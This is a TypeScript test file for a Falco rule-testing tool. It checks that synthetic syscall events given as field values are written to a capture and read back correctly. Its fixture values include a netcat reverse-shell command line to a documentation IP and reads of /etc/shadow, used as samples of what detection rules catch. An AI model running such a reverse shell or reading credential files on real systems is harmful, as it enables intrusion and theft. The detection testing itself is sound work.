// Events given as Falco field values (`rules test --event`, case files): each settable field reaches the
// capture and reads back as the same field value through the evaluator; any other field is an error
// naming it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eventsFromFields, FieldEventError, SETTABLE_FIELDS, type FieldEvent } from '../../../src/rules/events-from-fields.ts';
import { parseCaptureDescription, writeCapture } from '../../../src/scap/writer/index.ts';
import { readCapture } from '../../../src/scap/index.ts';
import { compileOutput, isInternalEvent } from '../../../src/filter/index.ts';
import { captureContext } from '../../../src/rules/run.ts';

let dir: string;
let written = 0;
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'falco-actions-field-events-'));
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

const label = (index: number): string => `event ${index + 1}`;

/** Writes the events and reads `format` back on every event of the given types. */
async function readBack(events: FieldEvent[], format: string, types: string[]): Promise<string[]> {
  const path = join(dir, `e${written++}.scap`);
  await writeCapture(parseCaptureDescription(eventsFromFields(events, label)), path);
  const render = compileOutput(format);
  const context = await captureContext(path);
  const lines: string[] = [];
  await readCapture(path, (event) => {
    if (isInternalEvent(event) || event.dir !== '<' || !types.includes(event.name)) return;
    lines.push(render(event, context));
  });
  return lines;
}

test('a field the writer cannot set is an error naming it and listing the settable fields', () => {
  assert.throws(
    () => eventsFromFields([{ 'evt.type': 'execve', 'proc.name': 'nc', 'container.mount.dest': '/var/run/docker.sock' }], label),
    (error: Error) => {
      assert.ok(error instanceof FieldEventError);
      assert.match(error.message, /^event 1: the field "container\.mount\.dest" cannot be set in a test event \(the capture writer has no place for it\)\. Settable fields: evt\.type, /);
      for (const field of Object.keys(SETTABLE_FIELDS)) assert.ok(error.message.includes(field), field);
      return true;
    },
  );
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve' }, { 'evt.type': 'execve', 'proc.tty': 1 }], label), /^FieldEventError: event 2: the field "proc\.tty" cannot be set/);
});

test('container labels: container.label.KEY and container.label[KEY] reach the capture and read back through container.label[KEY]', async () => {
  const lines = await readBack(
    [
      { 'evt.type': 'execve', 'proc.name': 'nc', 'container.label.app': 'jenkins', 'container.label[com.example/team]': 'ci', 'container.label.__proto__x': '1' },
      { 'evt.type': 'openat', 'fd.name': '/etc/shadow', 'container.id': '3f2a9c1b7d4e', 'container.label[io.kubernetes.pod.name]': 'p', 'container.label.empty': '' },
      { 'evt.type': 'execve', 'proc.name': 'git' },
    ],
    '%evt.type %container.id app=%container.label[app] team=%container.label[com.example/team] x=%container.label[__proto__x] missing=%container.label[nope] labels=(%container.labels)',
    ['execve', 'openat'],
  );
  assert.deepEqual(lines, [
    'execve fa7e57000000 app=jenkins team=ci x=1 missing=<NA> labels=(__proto__x:1, app:jenkins, com.example/team:ci)',
    // io.kubernetes.* labels are left out of container.labels, as the container plugin does; a label with an
    // empty value shows its key alone.
    'openat 3f2a9c1b7d4e app=<NA> team=<NA> x=<NA> missing=<NA> labels=(empty)',
    'execve host app=<NA> team=<NA> x=<NA> missing=<NA> labels=()',
  ]);
  const description = eventsFromFields([{ 'evt.type': 'execve', 'container.label.app': 'jenkins', 'container.label[app]': 'jenkins' }], label);
  assert.deepEqual(description.containers?.map((container) => ({ ...container.labels as object })), [{ app: 'jenkins' }]);
});

test('container labels: a bad key, a label given twice with two values, a host process with labels and too many labels are errors', () => {
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.label[]': 'x' }], label), /^FieldEventError: event 1: container\.label\[\]: "" is not a label key this test can set/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.label.a b': 'x' }], label), /container\.label\.a b: "a b" is not a label key/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.label[a]b]': 'x' }], label), /is not a label key/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.label.__proto__': 'x' }], label), /"__proto__" is not a label key/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', [`container.label.${'k'.repeat(257)}`]: 'x' }], label), /is not a label key/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.label.app': 'a', 'container.label[app]': 'b' }], label), /container\.label\[app\]: disagrees with container\.label\.app: give the label once/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.id': 'host', 'container.label.app': 'a' }], label), /container\.label\.app: a host process \(container\.id 'host'\) has no container properties/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.labels': 'a:b' }], label), /the field "container\.labels" cannot be set in a test event \(the capture writer has no place for it: set each label as container\.label\.KEY\)/);
  const many = Object.fromEntries(Array.from({ length: 101 }, (_, index) => [`container.label.l${index}`, 'v']));
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', ...many }], label), /container\.label: 101 labels given; at most 100/);
  assert.throws(
    () => eventsFromFields([{ 'evt.type': 'execve', 'container.label.app': 'a' }, { 'evt.type': 'execve', 'container.label.app': 'b' }], label),
    /event 2: container\.id: another event gives this container different properties/,
  );
});

test('unsupported syscalls, enter events and fields of another syscall are errors with the fix', () => {
  assert.throws(() => eventsFromFields([{ 'evt.type': 'open', 'fd.name': '/etc/shadow' }], label), /event 1: evt\.type: "open" cannot be written \(the capture writer writes every open as openat\); give one of execve, openat, connect, accept, ptrace/);
  assert.throws(() => eventsFromFields([{ 'proc.name': 'nc' }], label), /event 1: evt\.type: give the syscall/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'evt.dir': '>' }], label), /evt\.dir: only '<'/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'fd.name': '/etc/shadow' }], label), /event 1: fd\.name: applies to openat, connect, accept only, not to execve/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'proc.name': 'a-very-long-name-x' }], label), /proc\.name: at most 15 characters/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'proc.name': 'git', 'proc.cmdline': 'gh pr list' }], label), /proc\.cmdline: starts with "gh", but proc\.name is "git"/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'openat', 'fd.name': '/x', 'evt.arg.flags': 'O_WRONLY|O_SYNC' }], label), /evt\.arg\.flags: unknown flag "O_SYNC"/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'connect', 'fd.sport': 70000 }], label), /fd\.sport: must be a whole number from 0 to 65535/);
  assert.throws(() => eventsFromFields([{ 'evt.type': 'execve', 'container.id': 'nothex' }], label), /container\.id: give 12 or 64 lowercase hex digits/);
  assert.throws(() => eventsFromFields([], label), /no events given/);
});

test('execve: the process, its parent, its user and its container read back as given', async () => {
  const lines = await readBack(
    [
      {
        'evt.type': 'execve',
        'proc.name': 'nc',
        'proc.args': '-e /bin/sh 203.0.113.5 4444',
        'proc.exepath': '/usr/bin/nc.openbsd',
        'proc.cwd': '/var/jenkins_home',
        'proc.pcmdline': 'java -jar /usr/share/jenkins/jenkins.war',
        'user.name': 'jenkins',
        'container.id': '3f2a9c1b7d4e',
        'container.image.repository': 'docker.io/jenkins/jenkins',
        'container.image.tag': 'lts',
      },
    ],
    '%evt.type %evt.res %proc.name|%proc.cmdline|%proc.exepath|%proc.cwd|%proc.pname|%proc.pcmdline|%user.name|%container.id|%container.image.repository|%container.image.tag',
    ['execve'],
  );
  assert.deepEqual(lines, [
    'execve SUCCESS nc|nc -e /bin/sh 203.0.113.5 4444|/usr/bin/nc.openbsd|/var/jenkins_home/|java|java -jar /usr/share/jenkins/jenkins.war|jenkins|3f2a9c1b7d4e|docker.io/jenkins/jenkins|lts',
  ]);
});

test('openat, connect and accept: the fd fields read back as given; each event has its own process', async () => {
  const lines = await readBack(
    [
      { 'evt.type': 'openat', 'proc.name': 'python3', 'fd.name': '/home/runner/work/repo/repo/.git/config', 'evt.is_open_write': true },
      { 'evt.type': 'connect', 'proc.name': 'perl', 'fd.sip': '198.51.100.7', 'fd.sport': 8443, 'fd.cport': 40111, 'fd.l4proto': 'udp' },
      { 'evt.type': 'accept', 'proc.name': 'registry', 'fd.name': '203.0.113.9:51000->172.18.0.3:5000' },
      { 'evt.type': 'openat', 'proc.name': 'cat', 'fd.name': '/etc/shadow', 'evt.res': 'EACCES' },
    ],
    '%evt.type %evt.res %proc.name %proc.pid %proc.ppid %fd.name %fd.l4proto %evt.is_open_write',
    ['openat', 'connect', 'accept'],
  );
  assert.deepEqual(lines, [
    'openat SUCCESS python3 1001 1000 /home/runner/work/repo/repo/.git/config <NA> true',
    'connect SUCCESS perl 1011 1010 10.1.0.4:40111->198.51.100.7:8443 udp false',
    'accept SUCCESS registry 1021 1020 203.0.113.9:51000->172.18.0.3:5000 tcp false',
    'openat EACCES cat 1031 1030 /etc/shadow <NA> false',
  ]);
});
